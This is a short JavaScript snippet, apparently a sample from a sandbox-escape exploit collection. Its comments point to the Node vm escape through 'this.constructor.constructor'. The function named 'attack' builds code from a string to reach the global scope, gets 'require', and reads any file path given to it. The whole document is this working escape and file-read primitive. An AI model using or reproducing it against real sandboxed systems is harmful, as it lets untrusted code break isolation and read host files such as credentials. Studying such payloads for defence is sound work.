// Code out of a string, in the global scope.
// after: read
// source: vm: this.constructor.constructor
async function attack({ path }) {
  return { text: await Function('return this')().require('fs').readFileSync(path, 'utf8') };
}
